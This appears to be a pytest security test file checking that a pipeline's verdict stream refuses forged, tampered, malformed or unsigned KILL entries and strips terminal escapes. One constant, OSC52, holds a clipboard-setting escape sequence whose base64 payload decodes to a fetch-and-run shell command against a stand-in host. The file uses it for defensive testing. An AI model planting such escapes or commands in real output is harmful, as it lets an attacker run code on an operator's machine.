"""Issue 28, who may speak a verdict: only the pipeline, with its key. Driven as an attacker who
can write to Redis would: a forged KILL for a healthy job, an entry signed with another key, one
tampered with after signing, malformed entries, terminal escapes; read back through the commands
and pages a supervisor or an operator uses (`rl-health verdicts`, the board, the supervisor helper).
Each test fails on the code before the fix (docs/security.md, "Who may speak a verdict").
"""

from __future__ import annotations

import json
import subprocess
import sys
import warnings
from pathlib import Path
from typing import Any

import fakeredis
import pytest
from click.testing import CliRunner, Result

from shared.models import Confidence, Verdict, VerdictEntry
from shared.settings import Settings
from shared.signing import verify
from shared.supervisor import VerdictReader
from testkit.keys import OTHER_KEYS, TEST_KEYS, signed_fields
from testkit.services import free_port
from worker.cli import main
from worker.pipeline.steps import Pipeline
from worker.pipeline.store import MemoryStore

with warnings.catch_warnings():  # starlette asks for httpx2 over httpx; both drive the app alike
    warnings.simplefilter("ignore")
    from starlette.testclient import TestClient

ROOT = Path(__file__).resolve().parents[2]
PREFIX = "rlhsec"
STREAM = f"{PREFIX}:verdicts"
VICTIM = "/ops/healthy-victim"


def _entry(job_id: str = VICTIM, lead: str = "evt-1", verdict: str = "KILL") -> dict[str, Any]:
    return {
        "event_id": lead,
        "event_ids": [lead],
        "job_id": job_id,
        "verdict": verdict,
        "confidence": "high",
        "report_uri": f"s3://rlhealth/reports/cw/ops/victim/2026-07-30T21:15:00Z-{lead}.json",
        "captured_at": "2026-07-30T21:15:00Z",
    }


def _forged(job_id: str = VICTIM, lead: str = "evt-forged") -> dict[str, str]:
    """What `XADD rlhealth:verdicts * ... verdict KILL job_id /ops/healthy-victim` writes."""
    fields = _entry(job_id, lead)
    return {**fields, "event_ids": json.dumps(fields["event_ids"])}


@pytest.fixture
def client(monkeypatch: pytest.MonkeyPatch) -> Any:
    """A fake Redis every command of this process connects to, with the prefix set."""
    fake = fakeredis.FakeRedis()
    monkeypatch.setattr("redis.Redis.from_url", lambda *_a, **_k: fake)
    monkeypatch.setenv("RLHEALTH_STREAM_PREFIX", PREFIX)
    return fake


def _verdicts(*args: str) -> Result:
    return CliRunner().invoke(main, ["verdicts", *args])


# --- High 3: a forged verdict is never shown ------------------------------------------------------


def test_a_forged_kill_on_the_stream_is_refused_not_shown(client: Any) -> None:
    """An unsigned KILL XADDed for a healthy job is printed as REFUSED on stderr, never as a
    verdict (text or JSON), while a signed verdict beside it is shown."""
    client.xadd(STREAM, _forged())
    genuine = client.xadd(STREAM, signed_fields(_entry("/ops/real", "evt-2", "NO-KILL")))
    text, as_json = _verdicts(), _verdicts("--json")
    assert text.exit_code == as_json.exit_code == 0, text.output + as_json.output
    assert [line.split()[1:4] for line in text.stdout.splitlines()] == [
        ["NO-KILL", "high", "/ops/real"]
    ]
    assert [json.loads(line)["job_id"] for line in as_json.stdout.splitlines()] == ["/ops/real"]
    for result in (text, as_json):
        assert "healthy-victim" not in result.stdout
        (line,) = result.stderr.splitlines()
        assert line.startswith("REFUSED ") and "unsigned" in line
        assert genuine.decode() not in line


@pytest.mark.parametrize(
    ("how", "reason"),
    [("another key", "not held here"), ("tampered after signing", "bad signature")],
)
def test_a_kill_not_signed_by_the_pipeline_is_refused(client: Any, how: str, reason: str) -> None:
    """A KILL signed with a key the pipeline does not hold, or a genuine NO-KILL turned into a
    KILL after signing, is refused with the reason."""
    if how == "another key":
        fields = signed_fields(_entry(), OTHER_KEYS)
    else:
        fields = {**signed_fields(_entry(verdict="NO-KILL")), "verdict": "KILL"}
    entry_id = client.xadd(STREAM, fields).decode()
    result = _verdicts("--json")
    assert result.exit_code == 0 and result.stdout == ""
    (line,) = result.stderr.splitlines()
    assert line.startswith(f"REFUSED {entry_id}: ") and reason in line


def test_the_supervisor_helper_returns_only_verified_verdicts(client: Any) -> None:
    """`VerdictReader` (shared/) never returns a forged entry, from `recent` or `follow`, and
    reports each refusal."""
    settings = Settings(stream_prefix=PREFIX)
    client.xadd(STREAM, _forged())
    client.xadd(STREAM, signed_fields(_entry("/ops/real", "evt-2")))
    assert [e.job_id for e in VerdictReader(client, settings).recent(10)] == ["/ops/real"]
    refusals: list[str] = []
    reader = VerdictReader(client, settings, on_refused=lambda r: refusals.append(str(r)))
    reader.last_id = "0-0"
    assert [e.job_id for e in reader.follow(timeout_s=0.3)] == ["/ops/real"]
    assert len(refusals) == 1 and refusals[0].startswith("REFUSED ")


def test_the_channel_refuses_a_forged_message(client: Any) -> None:
    """A forged entry PUBLISHed on the verdict channel is refused by the helper's listener."""
    import threading

    from shared.supervisor import follow_channel

    settings = Settings(stream_prefix=PREFIX)
    stop = threading.Event()

    def publish() -> None:  # until the listener has subscribed and read them
        while not stop.wait(0.05):
            client.publish(STREAM, json.dumps(_entry()))

    refusals: list[str] = []
    thread = threading.Thread(target=publish, daemon=True)
    thread.start()
    try:
        listener = follow_channel(
            client, settings, timeout_s=1.0, on_refused=lambda r: refusals.append(str(r))
        )
        got = list(listener)
    finally:
        stop.set()
        thread.join()
    assert got == [] and refusals and "unsigned" in refusals[0]


def _board(monkeypatch: pytest.MonkeyPatch, store: MemoryStore) -> TestClient:
    """The application `rl-health board` serves, taken from the command itself."""
    served: list[Any] = []
    monkeypatch.setattr("uvicorn.run", lambda app, **_kwargs: served.append(app))
    monkeypatch.setattr("worker.pipeline.store.store_from_settings", lambda _s: store)
    result = CliRunner().invoke(main, ["board"])
    assert result.exit_code == 0, result.output
    return TestClient(served[0])


def test_the_board_marks_a_forged_entry_refused(
    client: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The board shows a forged KILL as a marked REFUSED row, never as a KILL verdict, and
    counts it in a metric."""
    client.xadd(STREAM, _forged())
    client.xadd(STREAM, signed_fields(_entry("/ops/real", "evt-2", "NO-KILL")))
    http = _board(monkeypatch, MemoryStore(bucket="rlhealth"))
    page = http.get("/").text
    assert '<span class="v v-KILL">' not in page and VICTIM not in page
    assert "/ops/real" in page and 'class="refused"' in page and "REFUSED" in page
    metrics = http.get("/metrics").text
    assert 'rlhealth_verdicts_refused_total{kind="unsigned",reader="board"}' in metrics


def test_a_forged_stored_report_is_neither_served_nor_believed(
    client: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A JSON report written into S3 by another hand (unsigned) gives the board no mechanism
    and is not served as JSON."""
    store = MemoryStore(bucket="rlhealth")
    key = "reports/cw/ops/victim/2026-07-30T21:15:00Z-evt-2.json"
    forged = {"verdict": "KILL", "kill_proof": {"mechanism": "forged proof"}, "gates": {}}
    store.put_once(key, json.dumps(forged).encode())
    client.xadd(
        STREAM, signed_fields({**_entry("/ops/real", "evt-2"), "report_uri": store.uri(key)})
    )
    http = _board(monkeypatch, store)
    assert "forged proof" not in http.get("/").text
    assert http.get(f"/report/{key}").status_code == 409


def test_the_pipeline_signs_its_entries_and_stored_reports(tmp_path: Path) -> None:
    """Every verdict entry the pipeline announces and every JSON report it stores verifies
    under its key (here: an ERROR answer, through the normal publish)."""
    (tmp_path / "jobs/cw/ops/j").mkdir(parents=True)
    settings = Settings(bundle_root=tmp_path, stream_prefix=PREFIX)
    store, fake = MemoryStore(), fakeredis.FakeRedis()
    pipeline = Pipeline(settings, store, fake)
    pipeline.coalescer.admit("evt-1", "jobs/cw/ops/j")
    assert pipeline.publisher.fail("evt-1", "jobs/cw/ops/j", "a stage failed") is not None
    ((_id, raw),) = fake.xrange(STREAM)
    fields = {k.decode(): v.decode() for k, v in raw.items()}
    verify({**fields, "event_ids": json.loads(fields["event_ids"])}, TEST_KEYS)
    (report_key,) = [k for k in store.objects if k.startswith("reports/") and k.endswith(".json")]
    verify(json.loads(store.objects[report_key]), TEST_KEYS)
    with pytest.raises(ValueError, match="bad signature"):
        verify({**json.loads(store.objects[report_key]), "verdict": "KILL"}, TEST_KEYS)


@pytest.fixture
def pipeline(tmp_path: Path) -> Pipeline:
    (tmp_path / "jobs/cw/ops/victim").mkdir(parents=True)
    settings = Settings(bundle_root=tmp_path, stream_prefix=PREFIX, coalesce_s=300)
    return Pipeline(settings, MemoryStore(), fakeredis.FakeRedis())


def _kill_for_the_victim(lead: str) -> VerdictEntry:
    return VerdictEntry.model_validate({**_entry(lead=lead), "event_ids": [lead]})


def test_redis_cannot_make_the_pipeline_sign_a_decision(pipeline: Pipeline) -> None:
    """A KILL handed to the publish step (a Celery message anyone on Redis can queue), or
    written as the lead's kept decision, is never signed and announced: publish refuses it,
    and the failure path answers with its own ERROR."""
    from worker.pipeline.failures import PipelineError

    job = "jobs/cw/ops/victim"
    pipeline.coalescer.admit("evt-1", job)
    forged = _kill_for_the_victim("evt-1")
    with pytest.raises(PipelineError, match="refused"):
        pipeline.publisher.publish(forged.model_dump(mode="json"), job)
    pipeline.redis.set(pipeline.names.entry("evt-1"), forged.model_dump_json())
    answered = pipeline.publisher.fail("evt-1", job, "publish refused")
    assert answered is not None and answered.verdict is Verdict.ERROR
    verdicts = [f[b"verdict"] for _id, f in pipeline.redis.xrange(STREAM)]
    assert verdicts == [b"ERROR"]


def test_a_forged_cooldown_verdict_is_dropped_not_reannounced(pipeline: Pipeline) -> None:
    """A KILL written into a job's cooldown (what a re-announcement repeats) is not announced
    to the job's next alert, which starts a diagnosis of its own."""
    job = "jobs/cw/ops/victim"
    forged = {k: str(v) for k, v in _forged(lead="evt-0").items()}
    pipeline.redis.hset(pipeline.names.cooldown(job), mapping=forged)
    pipeline.redis.expire(pipeline.names.cooldown(job), 300)
    assert pipeline.coalescer.admit("evt-1", job).outcome == "started"
    assert pipeline.redis.xlen(STREAM) == 0
    assert not pipeline.redis.exists(pipeline.names.cooldown(job))


def test_a_rotated_key_still_verifies_and_the_first_signs(client: Any) -> None:
    """With `new:hex,old:hex` the reader shows verdicts signed by either key."""
    from shared.signing import parse_keys

    old = "old:" + "a1" * 32
    new = "new:" + "b2" * 32
    client.xadd(STREAM, signed_fields(_entry("/ops/before", "evt-1"), parse_keys(old)))
    client.xadd(STREAM, signed_fields(_entry("/ops/after", "evt-2"), parse_keys(f"{new},{old}")))
    settings = Settings(stream_prefix=PREFIX, verdict_key=f"{new},{old}")  # type: ignore[arg-type]
    assert settings.verdict_keys().signing_id == "new"
    shown = [e.job_id for e in VerdictReader(client, settings).recent(10)]
    assert shown == ["/ops/before", "/ops/after"]


# --- a pipeline role without a key ----------------------------------------------------------------


def _env_without_key(tmp_path: Path) -> dict[str, str]:
    import os

    env = {k: v for k, v in os.environ.items() if not k.startswith("RLHEALTH_")}
    closed = free_port()  # nothing listens: a role that starts anyway would wait for it
    env.update(
        RLHEALTH_REDIS_URL=f"redis://127.0.0.1:{closed}/0",
        RLHEALTH_BUNDLE_ROOT=str(tmp_path),
        RLHEALTH_S3_ENDPOINT_URL=f"http://127.0.0.1:{closed}",
    )
    return env


@pytest.mark.parametrize(
    "argv",
    [["ingest"], ["worker", "--pool", "solo"], ["verdicts"], ["board"], ["replay", "evt-1"]],
    ids=lambda argv: argv[0],
)
def test_a_pipeline_role_without_a_key_exits_2_naming_the_setting(
    tmp_path: Path, argv: list[str]
) -> None:
    """Started without RLHEALTH_VERDICT_KEY(_FILE), ingest, worker, verdicts, board and replay
    exit 2 at once with one line naming the setting."""
    run = "import sys; from worker.cli import main; sys.exit(main(prog_name='rl-health'))"
    try:
        done = subprocess.run(
            [sys.executable, "-c", run, *argv],
            check=False,
            env=_env_without_key(tmp_path),
            capture_output=True,
            text=True,
            timeout=30,
            cwd=ROOT,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"rl-health {argv[0]} started without a verdict key")
    lines = done.stderr.strip().splitlines()
    assert done.returncode == 2 and len(lines) == 1, done.stderr[-2000:]
    assert "RLHEALTH_VERDICT_KEY" in lines[0]


@pytest.mark.parametrize(
    ("value", "problem"),
    [
        ("abcd", "at least 32"),
        ("zz" * 32, "not hex"),
        ("a:" + "ab" * 32 + ",a:" + "cd" * 32, "twice"),
    ],
)
def test_an_unusable_key_is_refused_without_echoing_it(
    client: Any, monkeypatch: pytest.MonkeyPatch, value: str, problem: str
) -> None:
    """A short, non-hex or doubled key stops `verdicts` with exit 2 naming the setting and the
    problem, never the key."""
    monkeypatch.setenv("RLHEALTH_VERDICT_KEY", value)
    result = _verdicts()
    assert result.exit_code == 2 and problem in result.stderr
    assert "RLHEALTH_VERDICT_KEY" in result.stderr and value not in result.stderr


def test_diagnose_needs_no_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`rl-health diagnose` (and so `make demo`) runs without any verdict key."""
    monkeypatch.delenv("RLHEALTH_VERDICT_KEY")
    job = ROOT / "examples/jobs/cw-rno2a/ops/rl-gsm8k-stalled"
    probes = ROOT / "examples/probes/rl-gsm8k-stalled"
    argv = ["diagnose", str(job), "--probes", str(probes), "--now", "2026-07-30T19:17:00Z"]
    result = CliRunner().invoke(main, argv)
    assert result.exit_code == 0 and "VERDICT:" in result.stdout


# --- Medium 8: a malformed entry stops no reader --------------------------------------------------

MALFORMED = (
    {"event_id": "x", "verdict": "KILL"},  # no event_ids
    {"event_ids": "[not json", "verdict": "KILL"},
    {"event_ids": '"a string"', "verdict": "KILL"},
    {"\xff": "x"},
)


@pytest.fixture
def mixed(client: Any) -> list[str]:
    """The stream: a genuine KILL, every malformed shape, a genuine NO-KILL; their job ids."""
    client.xadd(STREAM, signed_fields(_entry("/ops/first", "evt-1")))
    for fields in MALFORMED:
        client.xadd(STREAM, fields)
    client.xadd(STREAM, {"event_ids": b"\xff\xfe", "event_id": b"\xc3"})
    client.xadd(STREAM, signed_fields(_entry("/ops/second", "evt-2", "NO-KILL")))
    return ["/ops/first", "/ops/second"]


def test_verdicts_prints_around_malformed_entries(mixed: list[str]) -> None:
    """`rl-health verdicts` shows both genuine verdicts and one REFUSED line per malformed entry
    (no traceback)."""
    result = _verdicts("--json")
    assert result.exit_code == 0, result.output
    assert [json.loads(line)["job_id"] for line in result.stdout.splitlines()] == mixed
    assert result.stderr.count("REFUSED ") == len(MALFORMED) + 1
    assert "Traceback" not in result.output


def test_the_board_stays_up_around_malformed_entries(
    mixed: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The board answers 200 with both genuine verdicts and the malformed entries marked."""
    response = _board(monkeypatch, MemoryStore(bucket="rlhealth")).get("/")
    assert response.status_code == 200
    assert all(job in response.text for job in mixed)
    assert response.text.count('class="refused"') == len(MALFORMED) + 1


def test_a_consumer_group_delivers_and_acks_around_malformed_entries(
    client: Any, mixed: list[str]
) -> None:
    """Read as a consumer group, the genuine KILL and NO-KILL read in the same batch as the
    malformed entries are delivered, and nothing stays pending."""
    reader = VerdictReader(client, Settings(stream_prefix=PREFIX), group="sup")
    assert [e.job_id for e in reader.follow(timeout_s=0.5)] == mixed
    assert client.xpending(STREAM, "sup")["pending"] == 0
    result = _verdicts("--group", "sup2", "--json")
    assert result.exit_code == 0 and len(result.stdout.splitlines()) == 2
    assert client.xpending(STREAM, "sup2")["pending"] == 0


# --- Low: terminal escapes ------------------------------------------------------------------------

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # sets the clipboard on many terminals


def test_verdicts_never_prints_a_terminal_escape(client: Any) -> None:
    """A verdict whose fields hold OSC 52, CSI (7-bit and C1) and bidi controls prints them as
    visible escapes, as text and as JSON, piped."""
    hostile = f"/ops/j{OSC52}\x9b2J\u202e"
    entry = VerdictEntry(
        event_id="evt-1",
        event_ids=("evt-1",),
        job_id=hostile,
        verdict=Verdict.NO_KILL,
        confidence=Confidence.HIGH,
        report_uri=f"s3://b/r{OSC52}.json",
        captured_at="2026-07-30T21:15:00Z",  # type: ignore[arg-type]
    )
    client.xadd(STREAM, signed_fields(entry.model_dump(mode="json")))
    for args in ((), ("--json",)):
        out = _verdicts(*args).stdout
        assert "/ops/j" in out
        assert not any(ch in out for ch in ("\x1b", "\x07", "\x9b", "\u202e")), repr(out)
    assert json.loads(_verdicts("--json").stdout)["job_id"] == hostile


def test_a_verdict_line_holds_no_control_character() -> None:
    """The line `verdicts` prints for an entry (text or JSON) holds no control, C1 or bidi
    character, whatever its job id, event ids and report URI hold."""
    from worker.cli.pipeline_cmd import _entry_line

    hostile = f"/ops/j{OSC52}\x9b2J\u202e"
    entry = VerdictEntry(
        event_id="evt-1",
        event_ids=("evt-1", "evt-2"),
        job_id=hostile,
        verdict=Verdict.KILL,
        confidence=Confidence.HIGH,
        report_uri=f"s3://b/r{OSC52}.json",
        captured_at="2026-07-30T21:15:00Z",  # type: ignore[arg-type]
    )
    for as_json in (False, True):
        line = _entry_line(entry, as_json)
        assert not any(ord(ch) < 32 or 0x7F <= ord(ch) < 0xA0 or ch == "\u202e" for ch in line)


# --- Low: the board's error page ------------------------------------------------------------------


def test_the_board_error_page_names_no_address(monkeypatch: pytest.MonkeyPatch) -> None:
    """With Redis gone after the board started (an unreachable one at start stops it with one
    line, exit 2) the board answers a generic 503: no host, port or exception."""
    import redis

    port = free_port()
    monkeypatch.setenv("RLHEALTH_REDIS_URL", f"redis://127.0.0.1:{port}/0")
    gone = redis.Redis.from_url(f"redis://127.0.0.1:{port}/0", socket_connect_timeout=1)
    monkeypatch.setattr("worker.cli.dependencies.reach_redis", lambda _settings: gone)
    response = _board(monkeypatch, MemoryStore()).get("/")
    assert response.status_code == 503 and "unavailable" in response.text
    assert str(port) not in response.text and "127.0.0.1" not in response.text
    assert "Error" not in response.text and "refused" not in response.text.lower()
